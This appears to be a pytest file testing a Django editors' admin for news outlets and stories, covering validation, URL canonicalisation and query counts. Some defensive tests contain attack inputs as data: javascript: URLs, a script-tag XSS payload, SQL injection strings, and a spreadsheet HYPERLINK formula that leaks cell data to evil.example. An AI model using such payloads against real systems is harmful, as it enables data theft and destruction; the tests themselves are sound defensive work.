"""The editors' admin for outlets and stories: entering them, and being told clearly what is wrong."""

import pytest
from django.urls import reverse

from publishing.models import Status
from stories.models import Outlet, Story
from tests.factories import make_outlet, make_story

pytestmark = pytest.mark.django_db

STORY_ADD = reverse("admin:stories_story_add")
STORY_CHANGELIST = reverse("admin:stories_story_changelist")
OUTLET_ADD = reverse("admin:stories_outlet_add")
OUTLET_CHANGELIST = reverse("admin:stories_outlet_changelist")

# The quotes inline on the story form, with no quote rows.
NO_QUOTES = {"quotes-TOTAL_FORMS": "0", "quotes-INITIAL_FORMS": "0", "quotes-MIN_NUM_FORMS": "0"}


def story_form(outlet, **fields):
    """Everything the story add form posts, for a valid draft story; override what the test is about."""
    return {
        "outlet": outlet.pk,
        "url": "https://gothamist.com/news/de-blasio-crime",
        "headline": "De Blasio touts falling crime",
        "headline_stand_in": "",
        "headline_stand_in_source": "",
        "byline": "Jen Chung",
        "published_on": "2017-04-21",
        "published_time": "",
        "text": "",
        "text_retrieved_on": "",
        "status": Status.DRAFT,
        "retraction_notice": "",
        **NO_QUOTES,
        **fields,
    }


def form_errors(response):
    assert response.status_code == 200, "the form should be shown again with its errors"
    return response.context["adminform"].form.errors


# Adding and changing.


def test_an_editor_adds_a_story(editor_client):
    gothamist = make_outlet(name="Gothamist")

    response = editor_client.post(
        STORY_ADD,
        story_form(
            gothamist,
            published_time="09:30",
            text="The mayor said crime is down.",
            text_retrieved_on="2017-04-22",
        ),
    )

    assert response.status_code == 302
    story = Story.objects.get()
    assert story.outlet == gothamist
    assert story.url == "https://gothamist.com/news/de-blasio-crime"
    assert story.headline == "De Blasio touts falling crime"
    assert story.byline == "Jen Chung"
    assert str(story.published_on) == "2017-04-21"
    assert str(story.published_time) == "09:30:00"
    assert story.text == "The mayor said crime is down."
    assert story.status == Status.DRAFT


def test_the_story_url_is_saved_in_canonical_form(editor_client):
    response = editor_client.post(
        STORY_ADD,
        story_form(make_outlet(), url="HTTPS://Gothamist.com:443/news/crime?utm_source=twitter&id=7&fbclid=x#top"),
    )

    assert response.status_code == 302
    assert Story.objects.get().url == "https://gothamist.com/news/crime?id=7"


def test_an_editor_publishes_a_story_straight_from_the_add_form(editor_client):
    editor_client.post(STORY_ADD, story_form(make_outlet(), status=Status.PUBLISHED))

    story = Story.objects.get()
    assert story.status == Status.PUBLISHED
    assert story.first_published_at is not None


def test_a_story_with_an_unknown_headline_takes_a_stand_in_with_its_source(editor_client):
    editor_client.post(
        STORY_ADD,
        story_form(
            make_outlet(), headline="", headline_stand_in="De blasio crime", headline_stand_in_source="URL slug"
        ),
    )

    story = Story.objects.get()
    assert (story.headline, story.display_headline) == ("", "De blasio crime")


def test_an_editor_changes_a_story(editor_client):
    story = make_story(status=Status.DRAFT, headline="Crime falls")

    response = editor_client.post(
        reverse("admin:stories_story_change", args=[story.pk]),
        story_form(story.outlet, url=story.url, headline="Crime falls, mayor says", byline="Jen Chung"),
    )

    assert response.status_code == 302
    story.refresh_from_db()
    assert (story.headline, story.byline) == ("Crime falls, mayor says", "Jen Chung")


def test_an_editor_adds_an_outlet(editor_client):
    response = editor_client.post(
        OUTLET_ADD, {"name": "Gothamist", "slug": "gothamist", "homepage": "https://gothamist.com/"}
    )

    assert response.status_code == 302
    assert Outlet.objects.get().homepage == "https://gothamist.com/"


def test_an_editor_renames_an_outlet(editor_client):
    outlet = make_outlet(name="Gothamist", slug="gothamist")

    response = editor_client.post(
        reverse("admin:stories_outlet_change", args=[outlet.pk]),
        {"name": "Gothamist (WNYC)", "slug": "gothamist", "homepage": "https://gothamist.com/"},
    )

    assert response.status_code == 302
    outlet.refresh_from_db()
    assert (outlet.name, outlet.homepage) == ("Gothamist (WNYC)", "https://gothamist.com/")


def test_an_outlet_homepage_must_be_a_web_address(editor_client):
    response = editor_client.post(
        OUTLET_ADD, {"name": "Gothamist", "slug": "gothamist", "homepage": "ftp://x.example/"}
    )

    assert form_errors(response)["homepage"] == ["Enter a full http:// or https:// address."]
    assert not Outlet.objects.exists()


@pytest.mark.parametrize("homepage", ["javascript:alert(1)", "mailto:tips@gothamist.com"])
def test_an_outlet_homepage_that_is_not_a_web_page_is_refused(editor_client, homepage):
    response = editor_client.post(OUTLET_ADD, {"name": "Gothamist", "slug": "gothamist", "homepage": homepage})

    assert form_errors(response)["homepage"] == ["Enter a valid URL."]
    assert not Outlet.objects.exists()


def test_the_outlet_field_finds_outlets_by_name(editor_client):
    gothamist = make_outlet(name="Gothamist")
    make_outlet(name="Newsmax")

    response = editor_client.get(
        reverse("admin:autocomplete"),
        {"app_label": "stories", "model_name": "story", "field_name": "outlet", "term": "goth"},
    )

    assert response.json()["results"] == [{"id": str(gothamist.pk), "text": "Gothamist"}]


# Bad input gets a clear error, and nothing is saved.


@pytest.mark.parametrize("url", ["not a url", "https://", "http://exa mple.com/a", "https://news.example:8o/a"])
def test_a_malformed_url_is_refused(editor_client, url):
    response = editor_client.post(STORY_ADD, story_form(make_outlet(), url=url))

    assert form_errors(response)["url"]
    assert not Story.objects.exists()


@pytest.mark.parametrize("url", ["ftp://gothamist.com/news/crime", "ftps://gothamist.com/news/crime"])
def test_an_ftp_url_is_refused_with_the_reason(editor_client, url):
    response = editor_client.post(STORY_ADD, story_form(make_outlet(), url=url))

    assert form_errors(response)["url"] == ["Enter a full http:// or https:// address."]
    assert not Story.objects.exists()


@pytest.mark.parametrize("url", ["mailto:tips@gothamist.com", "javascript:alert(document.cookie)"])
def test_a_url_that_is_not_a_web_page_is_refused(editor_client, url):
    response = editor_client.post(STORY_ADD, story_form(make_outlet(), url=url))

    assert form_errors(response)["url"] == ["Enter a valid URL."]
    assert not Story.objects.exists()


@pytest.mark.parametrize(
    "url",
    [
        "https://gothamist.com/news/crime?id=7",
        "https://gothamist.com/news/crime?id=7&utm_source=twitter&utm_medium=social",
        "https://GOTHAMIST.com/news/crime?id=7",
        "https://gothamist.com:443/news/crime?fbclid=abc&id=7#comments",
    ],
)
def test_a_story_already_on_file_is_refused_even_behind_tracking_parameters_or_host_case(editor_client, url):
    existing = make_story(url="https://gothamist.com/news/crime?id=7")

    response = editor_client.post(STORY_ADD, story_form(make_outlet(), url=url))

    assert form_errors(response)["url"] == ["Story with this Canonical URL already exists."]
    assert list(Story.objects.all()) == [existing]


@pytest.mark.parametrize("field", ["headline", "byline", "text"])
def test_a_nul_byte_is_refused_with_a_form_error(editor_client, field):
    response = editor_client.post(
        STORY_ADD, story_form(make_outlet(), text_retrieved_on="2017-04-22", **{field: "Crime falls\x00"})
    )

    assert form_errors(response)[field] == ["Null characters are not allowed."]
    assert not Story.objects.exists()


@pytest.mark.parametrize("date", ["2017-02-30", "yesterday", "21/04/2017x", "2017-13-01"])
def test_a_malformed_publication_date_is_refused(editor_client, date):
    response = editor_client.post(STORY_ADD, story_form(make_outlet(), published_on=date))

    assert form_errors(response)["published_on"] == ["Enter a valid date."]
    assert not Story.objects.exists()


def test_a_publication_time_without_a_date_is_explained(editor_client):
    response = editor_client.post(STORY_ADD, story_form(make_outlet(), published_on="", published_time="09:30"))

    assert form_errors(response)["published_time"] == ["Give the publication date too."]
    assert not Story.objects.exists()


def test_article_text_without_its_retrieval_date_is_explained(editor_client):
    response = editor_client.post(STORY_ADD, story_form(make_outlet(), text="The mayor said crime is down."))

    assert form_errors(response)["text_retrieved_on"] == ["Say when the article text was retrieved."]
    assert not Story.objects.exists()


def test_a_stand_in_headline_without_its_source_is_explained(editor_client):
    response = editor_client.post(STORY_ADD, story_form(make_outlet(), headline="", headline_stand_in="Crime falls"))

    assert form_errors(response)["headline_stand_in_source"] == ["Say where the stand-in headline came from."]
    assert not Story.objects.exists()


def test_a_script_in_a_headline_is_stored_as_typed_and_shown_as_text(editor_client):
    payload = '<script>alert("owned")</script>'

    editor_client.post(STORY_ADD, story_form(make_outlet(), headline=payload))
    response = editor_client.get(STORY_CHANGELIST)

    assert Story.objects.get().headline == payload
    page = response.content.decode()
    assert "&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;" in page
    assert payload not in page


@pytest.mark.parametrize(
    "payload",
    ["'; DROP TABLE stories_story; --", '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "Robert'); --"],
)
def test_sql_and_spreadsheet_payloads_are_stored_verbatim(editor_client, payload):
    editor_client.post(STORY_ADD, story_form(make_outlet(), headline=payload, byline=payload))

    story = Story.objects.get()
    assert (story.headline, story.byline) == (payload, payload)


# Changelists run a fixed number of queries, however many rows they show.

# Session, user, the editor's user and group permissions, the outlet filter's choices, total and filtered counts,
# the page of stories with their outlets and quote counts, the date hierarchy's range and its days.
STORY_CHANGELIST_QUERIES = 10
# Session, user, user and group permissions, total and filtered counts, the page of outlets with story counts.
OUTLET_CHANGELIST_QUERIES = 7


def test_the_story_changelist_runs_the_same_queries_for_2_and_30_stories(editor_client, django_assert_num_queries):
    for _ in range(2):
        make_story()
    with django_assert_num_queries(STORY_CHANGELIST_QUERIES):
        response = editor_client.get(STORY_CHANGELIST)
    assert len(response.context["cl"].result_list) == 2

    for _ in range(28):
        make_story(outlet=make_outlet())
    with django_assert_num_queries(STORY_CHANGELIST_QUERIES):
        response = editor_client.get(STORY_CHANGELIST)
    assert len(response.context["cl"].result_list) == 30


def test_the_outlet_changelist_runs_the_same_queries_for_2_and_30_outlets(editor_client, django_assert_num_queries):
    for _ in range(2):
        make_story()
    with django_assert_num_queries(OUTLET_CHANGELIST_QUERIES):
        response = editor_client.get(OUTLET_CHANGELIST)
    assert len(response.context["cl"].result_list) == 2

    for _ in range(28):
        make_story()
    with django_assert_num_queries(OUTLET_CHANGELIST_QUERIES):
        response = editor_client.get(OUTLET_CHANGELIST)
    assert [outlet.story_count for outlet in response.context["cl"].result_list] == [1] * 30
